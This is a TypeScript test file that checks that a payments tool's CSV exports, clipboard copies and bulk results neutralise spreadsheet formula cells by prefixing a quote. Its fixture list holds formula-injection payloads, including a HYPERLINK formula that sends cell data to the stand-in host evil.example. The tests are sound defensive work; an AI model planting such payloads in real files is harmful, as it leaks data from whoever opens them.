import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import Papa from 'papaparse'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { exportResults } from '../../../main/bulk/results-export'
import { selectionAsTsv } from '../../../main/reports/report-export'
import { createBulkJournal } from '../../../main/bulk/bulk-journal-repository'
import {
  engineUnderTest,
  transactionsCsv,
  type EngineUnderTest,
} from '../../fixtures/report-engine'
import { openTestStore } from '../../fixtures/gatedesk-store'

/** What a report's or a gateway's cells may hold, and how a file for people must write each. */
const CELLS: [value: string, written: string][] = [
  [
    '=HYPERLINK("https://evil.example/?x="&A1,"Refund")',
    `'=HYPERLINK("https://evil.example/?x="&A1,"Refund")`,
  ],
  ['+1', "'+1"],
  ['-x', "'-x"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\tcmd', "'\tcmd"],
  ['\rcmd', "'\rcmd"],
  ['-12.50', '-12.50'],
  ['12.50', '12.50'],
  ['Shop = Café', 'Shop = Café'],
]
const rows = CELLS.map(([value], index) => [value, String(index + 1), '10.500', 'EUR', 'sale'])
const parsed = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data

let engine: EngineUnderTest
beforeEach(() => {
  engine = engineUnderTest()
})
afterEach(() => engine.close())

async function finished(jobId: string) {
  await expect.poll(() => engine.finished.find((job) => job.jobId === jobId)?.outcome).toBe('done')
}

async function openReport() {
  const text = transactionsCsv(rows)
  const path = engine.write('formulas.csv', text)
  const { reportId } = await engine.reports.open(path)
  await engine.reports.get(reportId).indexed
  return { reportId, text }
}

describe('cells a spreadsheet would run, in files written for people', () => {
  it("get a ' in front in an exported view; plain numbers and other text stay", async () => {
    const { reportId } = await openReport()
    const file = join(engine.dir, 'view.csv')
    await finished(engine.reports.exportView(reportId, file, [0, 1]))
    const written = parsed(readFileSync(file, 'utf8')).slice(1)
    expect(written.map((row) => row[0])).toEqual(CELLS.map(([, safe]) => safe))
  })

  it('are written exactly as they are when the user asks for the exact bytes', async () => {
    const { reportId } = await openReport()
    const file = join(engine.dir, 'exact.csv')
    await finished(engine.reports.exportView(reportId, file, [0], { exactBytes: true }))
    const written = parsed(readFileSync(file, 'utf8')).slice(1)
    expect(written.map((row) => row[0])).toEqual(CELLS.map(([value]) => value))
  })

  it('leave the original file byte for byte as it came', async () => {
    const { reportId, text } = await openReport()
    const file = join(engine.dir, 'original.csv')
    await finished(engine.reports.exportOriginal(reportId, file))
    expect(readFileSync(file, 'utf8')).toBe(text)
  })

  it("get a ' in front in rows copied for the clipboard", async () => {
    const { reportId } = await openReport()
    const tsv = await selectionAsTsv(engine.reports.get(reportId), 0, CELLS.length, [0], false)
    const copied = Papa.parse<string[]>(tsv, { delimiter: '\t' }).data
    expect(copied.map((row) => row[0])).toEqual(CELLS.map(([, safe]) => safe))
  })

  it("get a ' in front in a bulk job's results, the gateway's messages included", async () => {
    const store = openTestStore()
    try {
      const journal = createBulkJournal(store.db)
      const mapping = ['recurring-payment-id', 'order_desc']
      journal.create(
        {
          id: 'bulk-1',
          source: { path: 'rows.csv', sha256: 'x', encoding: 'UTF-8', delimiter: ',', mapping },
          environment: { id: 'env-1', name: 'Sandbox' },
          profileType: null,
          concurrency: 1,
          rate: null,
          orderPrefix: 'gd',
        },
        CELLS.map((_, index) => ({
          rowNumber: index + 1,
          clientOrderId: `gd-${index + 1}`,
          profileId: `RP-${index + 1}`,
          overrides: null,
        })),
      )
      CELLS.forEach(([value], index) =>
        journal.finishRow('bulk-1', index + 1, {
          state: 'done',
          outcome: 'declined',
          serialNumber: null,
          errorCode: null,
          message: value,
        }),
      )
      const source = {
        path: 'rows.csv',
        sha256: 'x',
        encoding: 'UTF-8',
        delimiter: ',',
        headers: mapping,
        rows: CELLS.map(([value], index) => [`RP-${index + 1}`, value]),
      }
      const file = join(store.dir, 'results.csv')
      await exportResults(journal, journal.job('bulk-1')!, source, file, () => 'Sandbox')
      const [header, ...written] = parsed(readFileSync(file, 'utf8'))
      const column = (name: string) => written.map((row) => row[header!.indexOf(name)])
      // Inputs are sent trimmed, so a leading tab or CR never reaches an input column.
      const sent = (value: string) => value.trim() === value
      expect(column('order_desc').filter((_, row) => sent(CELLS[row]![0]))).toEqual(
        CELLS.filter(([value]) => sent(value)).map(([, safe]) => safe),
      )
      expect(column('message')).toEqual(CELLS.map(([, safe]) => safe))
    } finally {
      store.close()
    }
  })
})
